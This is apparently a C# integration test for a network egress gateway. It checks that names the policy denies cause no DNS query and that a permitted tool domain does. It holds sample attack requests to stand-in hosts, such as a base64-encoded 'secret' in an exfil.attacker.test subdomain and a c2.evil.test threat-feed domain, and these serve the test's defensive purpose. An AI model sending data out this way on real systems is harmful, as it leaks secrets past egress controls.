using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// Deciding before resolving, end to end: the real `corral gateway` runs in a network namespace this test creates,
/// whose resolver (`/etc/netns/NAME/resolv.conf`, bound by `ip netns exec`) is a logging DNS server in the same
/// namespace. Names the policy denies whatever their address must never reach it; a permitted name must.
/// </summary>
public sealed class DnsQueryNamespaceTests
{
    // Answers every A/AAAA query with NXDOMAIN after logging its name: the gateway learns nothing, the log learns all.
    private const string DnsServer = """
        import socket, sys
        log = open(sys.argv[1], "a", buffering=1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", 53))
        open(sys.argv[2], "w").close()
        while True:
            data, peer = s.recvfrom(4096)
            if len(data) < 12: continue
            labels, i = [], 12
            while i < len(data) and data[i] != 0:
                n = data[i]; labels.append(data[i + 1:i + 1 + n].decode("latin-1")); i += n + 1
            log.write(".".join(labels) + "\n")
            reply = bytearray(data[:12]); reply[2] = 0x81; reply[3] = 0x83  # response, recursion available, NXDOMAIN
            reply[6:12] = b"\0\0\0\0\0\0"
            s.sendto(bytes(reply) + data[12:i + 5], peer)
        """;

    private const string Policy = """
        version: 1
        name: dns-test
        defaultAction: deny
        smartGroups:
          agents: { cidrs: [127.0.0.0/8] }
        threatGroups:
          threats: { feeds: [threat-domains.txt] }
        webGroups:
          tools: { domains: [tools.example.test] }
        rules:
          - { name: deny-threat-intel, priority: 1, source: [agents], destination: [threats], action: deny }
          - { name: allow-tools, priority: 2, source: [agents], webGroups: [tools], action: permit, ports: [443] }
          - { name: default-deny-internet, priority: 3, source: [agents], destination: [public-internet], action: deny }
        """;

    [Fact]
    public async Task Names_the_policy_denies_whatever_their_address_send_no_dns_query_and_a_permitted_name_does()
    {
        NetworkNamespaces.SkipUnlessRootWith("ip", "curl", "python3");
        var ns = $"crl-dns-{Environment.ProcessId % 10000}{Random.Shared.Next(100, 999)}";
        using var folder = new TempFolder("corral-dns-");
        var queries = folder.File("queries.log");
        var ready = folder.File("dns.ready");
        await using var topology = new NetworkNamespaces();
        await topology.AddAsync(ns);
        await topology.LoopbackUpAsync(ns);
        topology.SetResolver(ns, "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n");
        folder.Write("p.yaml", Policy);
        folder.Write("threat-domains.txt", "c2.evil.test\n");

        topology.Start(ns, "python3", folder.Write("dns.py", DnsServer), queries, ready);
        await WaitForAsync(() => File.Exists(ready), "the logging DNS server");

        var gateway = topology.Start(ns, CorralProgram.DotnetHost, CorralProgram.Dll, "gateway", folder.File("p.yaml"),
            "--listen", "127.0.0.1:3128", "--flow-log", folder.File("flows.jsonl"), "--no-watch");
        await WaitForAsync(async () => (await NetworkNamespaces.ExecAsync(ns, "curl", "-s", "-o", "/dev/null", "http://127.0.0.1:3128/")).ExitCode == 0,
            "the gateway", () => gateway.Output);

        async Task<string> ThroughGatewayAsync(params string[] curl) =>
            (await NetworkNamespaces.ExecAsync(ns, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "10", "-x", "http://127.0.0.1:3128", .. curl])).Stdout;

        var exfil = await ThroughGatewayAsync("https://c2VjcmV0.exfil.attacker.test/");
        var plain = await ThroughGatewayAsync("http://c2VjcmV0.plain.attacker.test/");
        var threat = await ThroughGatewayAsync("https://c2.evil.test/");
        var wrongPort = await ThroughGatewayAsync("https://tools.example.test:8443/");
        var permitted = await ThroughGatewayAsync("https://tools.example.test/"); // resolved: NXDOMAIN here, so 502

        Assert.Contains("403", exfil);
        Assert.Contains("403", plain);
        Assert.Contains("403", threat);
        Assert.Contains("403", wrongPort);
        Assert.Contains("502", permitted);
        var asked = File.ReadAllLines(queries).Distinct().ToArray();
        Assert.Equal(["tools.example.test"], asked);
    }

    private static Task WaitForAsync(Func<bool> ready, string what) => WaitForAsync(() => Task.FromResult(ready()), what);

    private static async Task WaitForAsync(Func<Task<bool>> ready, string what, Func<string>? output = null)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (!await ready())
        {
            if (DateTime.UtcNow > deadline) throw new TimeoutException($"{what} did not start within 30 s. {output?.Invoke()}");
            await Task.Delay(100);
        }
    }
}
